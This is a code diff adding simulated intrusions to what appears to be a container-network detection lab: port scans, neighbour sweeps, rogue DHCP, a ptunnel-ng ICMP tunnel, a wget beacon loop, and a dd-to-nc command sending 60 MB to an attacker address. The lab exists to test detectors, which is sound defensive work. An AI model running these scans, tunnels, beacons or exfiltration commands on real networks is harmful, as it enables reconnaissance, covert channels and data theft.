@@ -2,12 +2,14 @@
  * Attacks that an intruder in a container would try, with the tools that he would bring, one container each so that
  * each finding has one right name. Every one is bounded and stays within the lab.
  */
+import { BUSYBOX_IMAGE } from './images.ts';
+import { TUNNEL_PORT } from './internet.ts';
 import type { Lab } from './lab.ts';
 import { type RunningProcess, waitFor } from './run.ts';
-import { HOST_ADDRESS, INTERNET } from './world.ts';
+import { HOST_ADDRESS, INTERNET, ROUTER_ADDRESS } from './world.ts';
 
 /** What must be in the image of the intruder, and what of it this machine must have for the other end. */
-export const INTRUDER_TOOLS = ['nmap', 'hping3', 'arpspoof', 'dnsmasq'];
+export const INTRUDER_TOOLS = ['nmap', 'masscan', 'hping3', 'arpspoof', 'dnsmasq', 'ptunnel-ng'];
 
 /** What those tools read. */
 export const INTRUDER_FILES = ['/usr/share/nmap/nmap-services', '/usr/share/nmap/nmap-payloads'];
@@ -17,6 +19,8 @@ export const FRONT = {
   subnet: '172.31.10.0/24',
   gateway: '172.31.10.1',
   v6: 'fd31:0:0:10::/64',
+  /** Of the api, so that a command line can name it. */
+  apiV6: 'fd31:0:0:10::a1',
 };
 export const BACK = { name: 'back', subnet: '172.31.20.0/24' };
 export const OTHER = { name: 'other', subnet: '172.31.30.0/24' };
@@ -37,6 +41,10 @@ export interface Intrusion {
   /** Who is named; `wan` acts from outside and is named by its address. Default: a container of its own. */
   readonly from?: 'container' | 'wan' | 'host';
   readonly labels?: Readonly<Record<string, string>>;
+  /** Told when so many of the attack's messages have passed at the most; `evidence` counts them. */
+  readonly after?: { readonly evidence: string; readonly most: number; readonly what: string };
+  /** It takes its time by nature: it runs beside the others, and the limit of time is not for it. */
+  readonly isSlow?: true;
   /** What stands at the other end. */
   prepare?(lab: Lab): Promise<RunningProcess>;
   /** The command in the intruder's container, the wan or the host. */
@@ -45,6 +53,9 @@ export interface Intrusion {
 
 const ATTACKER = INTERNET.attacker.v4;
 const STRATUM_PORT = '3333';
+/** Of the wan's own: a server of pings can have it without taking those away that others answer. */
+const PING_SERVER = ROUTER_ADDRESS;
+const PROBES = { most: 20, what: 'probes' } as const;
 const sh = (script: string): readonly string[] => ['sh', '-c', script];
 
 export const INTRUSIONS: readonly Intrusion[] = [
@@ -52,37 +63,71 @@ export const INTRUSIONS: readonly Intrusion[] = [
     id: 'syn-scan',
     title: 'nmap -sS of 200 ports of a neighbour',
     found: ['port-scan'],
+    after: { ...PROBES, evidence: 'portCount' },
     command: ({ web }) => nmap('-sS', '-p', '1-200', '--max-retries', '0', web),
   },
   {
     id: 'connect-scan',
     title: 'nmap -sT of 200 ports of a neighbour',
     found: ['port-scan'],
+    after: { ...PROBES, evidence: 'portCount' },
     command: ({ web }) => nmap('-sT', '-p', '1-200', '--max-retries', '0', web),
   },
   {
     id: 'xmas-scan',
     title: 'nmap -sX of 50 ports of a neighbour',
     found: ['port-scan'],
+    after: { ...PROBES, evidence: 'probes' },
     command: ({ web }) => nmap('-sX', '-p', '1-50', '--max-retries', '0', web),
+  },
+  {
+    id: 'null-scan',
+    title: 'nmap -sN of 50 ports of a neighbour',
+    found: ['port-scan'],
+    after: { ...PROBES, evidence: 'probes' },
+    command: ({ web }) => nmap('-sN', '-p', '1-50', '--max-retries', '0', web),
+  },
+  {
+    id: 'masscan',
+    title: 'masscan of 200 ports of a neighbour',
+    found: ['port-scan'],
+    after: { ...PROBES, evidence: 'portCount' },
+    command: ({ web }) => ['timeout', '20', 'masscan', '-p1-200', '--rate', '200', '--wait', '1', web],
+  },
+  {
+    id: 'connect-scan-v6',
+    title: 'nmap -6 -sT of 200 ports of a neighbour',
+    found: ['port-scan'],
+    after: { ...PROBES, evidence: 'portCount' },
+    command: () => nmap('-6', '-sT', '-p', '1-200', '--max-retries', '0', FRONT.apiV6),
   },
   {
     id: 'udp-scan',
     title: 'nmap -sU of 40 ports of a neighbour',
     found: ['port-scan'],
+    after: { ...PROBES, evidence: 'portCount' },
     command: ({ web }) => nmap('-sU', '-p', '1000-1039', '--max-retries', '0', '--min-rate', '20', web),
   },
   {
     id: 'slow-scan',
     title: 'nmap -sS, one port each 400 ms',
     found: ['port-scan'],
+    after: { ...PROBES, evidence: 'portCount' },
     command: ({ web }) => nmap('-sS', '-p', '20-45', '--scan-delay', '400ms', '--max-retries', '0', web),
   },
   {
     id: 'arp-sweep',
     title: 'nmap -sn of the own network: ARP',
     found: ['host-sweep'],
+    after: { ...PROBES, evidence: 'hostCount' },
     command: () => nmap('-sn', '172.31.10.128/26'),
+  },
+  {
+    id: 'ndp-sweep',
+    title: 'nmap -6 -sn of 64 addresses of the own network: neighbour discovery',
+    found: ['host-sweep'],
+    after: { ...PROBES, evidence: 'hostCount' },
+    command: () => nmap('-6', '-sn', 'fd31:0:0:10::1:0/122'),
   },
   {
     id: 'host-sweep',
@@ -121,6 +166,60 @@ export const INTRUSIONS: readonly Intrusion[] = [
     found: ['rogue-gateway'],
     command: () =>
       rogue('--enable-ra', '--dhcp-range=::,constructor:eth0,ra-only,64', '--ra-param=eth0,4,300'),
+  },
+  {
+    id: 'dhcp-offer',
+    title: 'dnsmasq --dhcp-range: I give out addresses, and I am the router',
+    found: ['rogue-gateway'],
+    async prepare(lab) {
+      const asking = [
+        'timeout',
+        '15',
+        'udhcpc',
+        '-f',
+        '-i',
+        'eth0',
+        '-s',
+        '/usr/bin/true',
+        '-t',
+        '15',
+        '-T',
+        '1',
+      ];
+      const client = ['docker', 'run', '--rm', '--network', FRONT.name, BUSYBOX_IMAGE, 'busybox'];
+      return lab.spawn('host', [...client, ...asking]);
+    },
+    command: () => rogue('--dhcp-authoritative', '--dhcp-range=172.31.10.100,172.31.10.120'),
+  },
+  {
+    id: 'ping-tunnel',
+    title: 'ptunnel-ng: 200 kB through pings',
+    found: ['icmp-tunnel'],
+    prepare: (lab) => listening(lab, ['ptunnel-ng'], 'ptunnel-ng'),
+    command: () =>
+      sh(
+        `timeout 20 ptunnel-ng -p${PING_SERVER} -l2222 -r127.0.0.1 -R${TUNNEL_PORT} & ` +
+          'for i in 1 2 3 4 5 6 7 8; do sleep 0.3; netstat -tln | grep -q :2222 && break; done; ' +
+          'dd if=/dev/urandom bs=1000 count=200 | timeout 15 nc 127.0.0.1 2222',
+      ),
+  },
+  {
+    id: 'beacon',
+    title: 'asks an address without a name for orders, every two seconds with a jitter',
+    found: ['beacon'],
+    after: { evidence: 'contacts', most: 12, what: 'calls' },
+    isSlow: true,
+    command: () =>
+      sh(
+        `for i in 1 4 0 3 2 4 1 0 3 2 1 4 0 2; do wget -q -O /dev/null http://${ATTACKER}/; sleep 2.$i; done`,
+      ),
+  },
+  {
+    id: 'exfiltration',
+    title: 'sends 60 MB to an address outside',
+    found: ['exfil-volume'],
+    command: () =>
+      sh(`dd if=/dev/zero bs=1M count=60 2> /dev/null | timeout 15 nc -w 3 ${ATTACKER} ${TUNNEL_PORT}`),
   },
   {
     id: 'miner',
@@ -208,7 +307,7 @@ function rogue(...words: readonly string[]): readonly string[] {
   return ['timeout', '8', 'dnsmasq', ...quiet, '--dhcp-leasefile=/tmp/leases', ...words];
 }
 
-/** Runs in the wan, or on the host, until the lab's caller stops it; waits until its socket is there. */
+/** Runs in the wan, or on the host, until the lab's caller stops it; waits until its socket is there, by address or by program. */
 async function listening(
   lab: Lab,
   argv: readonly string[],
@@ -218,7 +317,8 @@ async function listening(
   const server = lab.spawn(place, argv);
   await waitFor(`${argv.join(' ')} to listen`, async () => {
     if (!server.running()) throw new Error(server.output());
-    const sockets = await lab.exec(place, ['ss', '--all', '--numeric', '--processes', '--tcp', '--udp']);
+    const kinds = ['--tcp', '--udp', '--raw'];
+    const sockets = await lab.exec(place, ['ss', '--all', '--numeric', '--processes', ...kinds]);
     return sockets.stdout.includes(socket);
   });
   return server;
